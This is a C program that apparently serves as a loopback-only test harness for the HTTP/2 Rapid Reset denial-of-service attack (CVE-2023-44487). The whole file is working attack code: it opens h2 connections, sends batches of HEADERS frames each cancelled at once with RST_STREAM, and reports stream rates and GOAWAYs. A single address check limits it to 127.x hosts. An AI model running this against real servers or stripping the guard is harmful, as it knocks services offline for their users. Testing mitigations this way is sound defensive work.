/* rapid_reset.c: an HTTP/2 "Rapid Reset" (CVE-2023-44487) load: streams opened and cancelled at once, loopback only */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
#include <openssl/err.h>
#include <openssl/ssl.h>

#define BATCH 100 /* streams opened and reset per write */

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static size_t frame(uint8_t *p, size_t len, uint8_t type, uint8_t flags, uint32_t stream)
{
    p[0] = (uint8_t)(len >> 16);
    p[1] = (uint8_t)(len >> 8);
    p[2] = (uint8_t)len;
    p[3] = type;
    p[4] = flags;
    p[5] = (uint8_t)(stream >> 24) & 0x7f;
    p[6] = (uint8_t)(stream >> 16);
    p[7] = (uint8_t)(stream >> 8);
    p[8] = (uint8_t)stream;
    return 9;
}

/* a HEADERS block of static-table indexes and literals without indexing (RFC 7541): GET https://localhost<path> */
static size_t header_block(uint8_t *p, const char *path)
{
    size_t n = 0, plen = strlen(path);
    p[n++] = 0x82; /* :method GET */
    p[n++] = 0x87; /* :scheme https */
    p[n++] = 0x04; /* :path, literal value */
    p[n++] = (uint8_t)plen;
    memcpy(p + n, path, plen);
    n += plen;
    p[n++] = 0x01; /* :authority, literal value */
    p[n++] = 9;
    memcpy(p + n, "localhost", 9);
    return n + 9;
}

typedef struct st_conn_t {
    int fd;
    SSL *ssl;
    uint32_t next_stream;
    int goaway;
} conn_t;

static int tcp_connect(const char *host, int port)
{
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    int fd = socket(AF_INET, SOCK_STREAM, 0), on = 1;
    if (fd == -1 || inet_pton(AF_INET, host, &sa.sin_addr) != 1 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) != 0) {
        if (fd != -1)
            close(fd);
        return -1;
    }
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof(on));
    return fd;
}

static int conn_open(conn_t *c, SSL_CTX *ctx, const char *host, int port)
{
    static const uint8_t alpn[] = {2, 'h', '2'};
    static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    uint8_t settings[9];
    memset(c, 0, sizeof(*c));
    if ((c->fd = tcp_connect(host, port)) == -1)
        return -1;
    c->ssl = SSL_new(ctx);
    SSL_set_fd(c->ssl, c->fd);
    SSL_set_tlsext_host_name(c->ssl, "localhost");
    SSL_set_alpn_protos(c->ssl, alpn, sizeof(alpn));
    if (SSL_connect(c->ssl) != 1)
        return -1;
    const unsigned char *proto;
    unsigned protolen;
    SSL_get0_alpn_selected(c->ssl, &proto, &protolen);
    if (protolen != 2 || memcmp(proto, "h2", 2) != 0) {
        fprintf(stderr, "rapid_reset: the server did not select h2 (HTTP/2 off?)\n");
        return -2;
    }
    frame(settings, 0, 0x4, 0, 0);
    if (SSL_write(c->ssl, preface, sizeof(preface) - 1) <= 0 || SSL_write(c->ssl, settings, sizeof(settings)) <= 0)
        return -1;
    fcntl(c->fd, F_SETFL, fcntl(c->fd, F_GETFL) | O_NONBLOCK);
    c->next_stream = 1;
    return 0;
}

static void conn_close(conn_t *c)
{
    if (c->ssl != NULL)
        SSL_free(c->ssl);
    if (c->fd > 0)
        close(c->fd);
    memset(c, 0, sizeof(*c));
}

/* reads and discards what the server sent; notes GOAWAY (frame type 7) and a closed connection; -1 when closed */
static int drain(conn_t *c, unsigned long long *bytes)
{
    uint8_t buf[65536];
    for (;;) {
        int n = SSL_read(c->ssl, buf, sizeof(buf));
        if (n > 0) {
            *bytes += (unsigned long long)n;
            /* a cheap scan: a GOAWAY frame header is 00 00 xx 07 00 00 00 00 00 */
            for (int i = 0; i + 9 <= n; ++i)
                if (buf[i + 3] == 0x07 && buf[i + 4] == 0 && buf[i] == 0 && buf[i + 5] == 0 && buf[i + 6] == 0 && buf[i + 7] == 0 &&
                    buf[i + 8] == 0 && buf[i + 2] >= 8)
                    c->goaway = 1;
            continue;
        }
        int err = SSL_get_error(c->ssl, n);
        ERR_clear_error();
        if (err == SSL_ERROR_WANT_READ || err == SSL_ERROR_WANT_WRITE)
            return 0;
        return -1;
    }
}

/* writes all of buf, draining while the socket is full; -1 when the connection is gone */
static int write_all(conn_t *c, const uint8_t *buf, size_t len, unsigned long long *bytes)
{
    size_t off = 0;
    while (off < len) {
        int n = SSL_write(c->ssl, buf + off, (int)(len - off));
        if (n > 0) {
            off += (size_t)n;
            continue;
        }
        int err = SSL_get_error(c->ssl, n);
        ERR_clear_error();
        if (err != SSL_ERROR_WANT_WRITE && err != SSL_ERROR_WANT_READ)
            return -1;
        if (drain(c, bytes) != 0)
            return -1;
        struct pollfd pfd = {c->fd, POLLIN | POLLOUT, 0};
        poll(&pfd, 1, 100);
    }
    return 0;
}

int main(int argc, char **argv)
{
    const char *host = "127.0.0.1", *path = "/.well-known/authrelay";
    int port = 8443, conns = 1;
    double seconds = 10;
    for (int i = 1; i < argc; ++i) {
        if (strcmp(argv[i], "--host") == 0 && i + 1 < argc)
            host = argv[++i];
        else if (strcmp(argv[i], "--port") == 0 && i + 1 < argc)
            port = (int)strtol(argv[++i], NULL, 10);
        else if (strcmp(argv[i], "--seconds") == 0 && i + 1 < argc)
            seconds = strtod(argv[++i], NULL);
        else if (strcmp(argv[i], "--conns") == 0 && i + 1 < argc)
            conns = (int)strtol(argv[++i], NULL, 10);
        else if (strcmp(argv[i], "--path") == 0 && i + 1 < argc)
            path = argv[++i];
        else {
            fprintf(stderr, "usage: rapid_reset [--host 127.0.0.1] [--port 8443] [--seconds 10] [--conns 1] [--path P]\n");
            return 2;
        }
    }
    struct in_addr a;
    if (inet_pton(AF_INET, host, &a) != 1 || (ntohl(a.s_addr) >> 24) != 127) {
        fprintf(stderr, "rapid_reset: loopback addresses only\n");
        return 2;
    }
    if (seconds <= 0 || seconds > 120 || conns < 1 || conns > 64) {
        fprintf(stderr, "rapid_reset: --seconds 0..120, --conns 1..64\n");
        return 2;
    }

    signal(SIGPIPE, SIG_IGN); /* the server closes abusive connections: a write error, not a signal */
    SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
    SSL_CTX_set_verify(ctx, SSL_VERIFY_NONE, NULL);
    conn_t *cs = calloc((size_t)conns, sizeof(*cs));
    unsigned long long streams = 0, bytes = 0, reconnects = 0, goaways = 0;
    uint8_t hb[128], batch[BATCH * (9 + 128 + 9 + 4)];
    size_t hblen = header_block(hb, path);

    for (int i = 0; i != conns; ++i) {
        int rc = conn_open(&cs[i], ctx, host, port);
        if (rc != 0) {
            fprintf(stderr, "rapid_reset: cannot open an HTTP/2 connection\n");
            printf("RESULT rapid_reset h2=%s streams=0 rate=0\n", rc == -2 ? "refused" : "error");
            return 1;
        }
    }
    double start = now(), end = start + seconds;
    while (now() < end) {
        for (int i = 0; i != conns; ++i) {
            conn_t *c = &cs[i];
            if (c->ssl == NULL || c->goaway || c->next_stream > 0x7ffffff0u - 2 * BATCH) {
                goaways += c->goaway;
                conn_close(c);
                if (conn_open(c, ctx, host, port) != 0) {
                    conn_close(c);
                    continue;
                }
                ++reconnects;
            }
            size_t n = 0;
            for (int s = 0; s != BATCH; ++s) {
                uint32_t id = c->next_stream;
                c->next_stream += 2;
                n += frame(batch + n, hblen, 0x1, 0x5, id); /* HEADERS, END_STREAM | END_HEADERS */
                memcpy(batch + n, hb, hblen);
                n += hblen;
                n += frame(batch + n, 4, 0x3, 0, id);                           /* RST_STREAM */
                batch[n++] = 0, batch[n++] = 0, batch[n++] = 0, batch[n++] = 8; /* CANCEL */
            }
            if (write_all(c, batch, n, &bytes) != 0 || drain(c, &bytes) != 0) {
                conn_close(c);
                ++reconnects;
                continue;
            }
            streams += BATCH;
        }
    }
    double took = now() - start;
    printf("RESULT rapid_reset h2=yes conns=%d seconds=%.1f streams=%llu rate=%.0f reconnects=%llu goaways=%llu "
           "bytes_from_server=%llu\n",
           conns, took, streams, streams / took, reconnects, goaways, bytes);
    for (int i = 0; i != conns; ++i)
        conn_close(&cs[i]);
    free(cs);
    SSL_CTX_free(ctx);
    return 0;
}
